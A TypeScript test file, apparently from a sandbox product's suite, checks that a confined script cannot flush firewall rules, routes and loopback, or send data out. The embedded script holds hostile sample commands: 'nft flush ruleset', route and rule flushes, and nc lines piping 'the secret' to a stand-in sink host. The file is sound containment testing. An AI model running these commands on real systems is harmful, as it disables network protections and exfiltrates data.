import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { execute } from '../fixtures/internet/execute.ts'
import type { Internet } from '../fixtures/internet/model.ts'
import { expectSilence } from '../fixtures/internet/silence.ts'
import { patchedBuild } from '../fixtures/product/patched-build.ts'
import { product, USERS, type User } from '../fixtures/product/product.ts'
import { startInternet } from '../fixtures/product/sandbox.ts'
import { NO_SECCOMP, NO_USER } from './rig/controls.ts'
import { readHistory } from './rig/history.ts'
import { start } from './rig/live.ts'

const PROFILE = 'name: changer\negress: []\n'
/** Waits for a word, tries to take the capture down, and speaks to the sink. */
const SCRIPT = `echo ready; read word
PATH=$PATH:/usr/sbin
nft flush ruleset; nft delete table inet rec
ip route flush table local; ip route flush table main; ip -6 route flush table local
ip rule flush; ip addr flush dev lo; ip link set lo down
echo done; read word
echo the secret | nc -N -w 2 SINK 4444; echo the secret | nc -u -w 1 SINK 4444
echo over`

let internet: Internet
beforeAll(async () => {
  internet = await startInternet()
})
afterAll(() => internet?.close())

/** What the kernel holds of the sandbox's network, its counters aside. */
async function settings(pid: number): Promise<string> {
  const commands = [
    'nft list ruleset',
    'ip route show table all',
    'ip -6 route show table all',
    'ip addr',
    'ip rule',
  ]
  const script = `PATH=$PATH:/usr/sbin:/sbin; ${commands.join('; ')}`
  const text = await execute(['nsenter', '--net', '--target', String(pid), 'sh', '-c', script])
  return text.replace(/packets \d+ bytes \d+/g, '').replace(/elements = \{[^}]*\}/g, '')
}

async function attempt(user: User, dist?: string) {
  const mcp = product(internet, { user, ...(dist && { dist }) })
  const profile = mcp.profile('changer', PROFILE)
  const script = SCRIPT.replaceAll('SINK', internet.addresses.sink.v4)
  const live = start(mcp, ['--profile', profile, '--', 'sh', '-c', script])
  await live.said('ready')
  const before = await settings(await live.inside())
  live.tell('go')
  await live.said('done')
  const after = await settings(await live.inside())
  live.tell('go')
  await live.said('over')
  await live.ended()
  return { mcp, before, after }
}

describe.each(USERS)('row 33, as %s', (user) => {
  it('leaves rules, routes and lo as they were, and what is sent then is captured', async () => {
    const { mcp, before, after } = await expectSilence(internet, () => attempt(user))
    expect(before).toContain('table inet rec')
    expect(after).toBe(before)
    const { flows, drops, alerts } = await readHistory(mcp, 'changer')
    const address = internet.addresses.sink.v4
    expect(flows).toEqual([
      expect.objectContaining({ address, port: 4444, reason: 'raw-ip', action: 'denied' }),
    ])
    expect(drops).toEqual([expect.objectContaining({ address, port: 4444, reason: 'udp', action: 'denied' })])
    expect(alerts.map(({ reason }) => reason).sort()).toEqual(['raw-ip', 'udp'])
  })
})

describe('row 33, with every capability', () => {
  it('changes them all, and even so nothing leaves', async () => {
    const dist = patchedBuild(internet.folder(0), [...NO_SECCOMP, ...NO_USER])
    const { before, after } = await expectSilence(internet, () => attempt('root', dist))
    expect(before).toContain('table inet rec')
    expect(after).not.toContain('table inet rec')
    expect(after).toMatch(/lo: <LOOPBACK>/)
  })
})
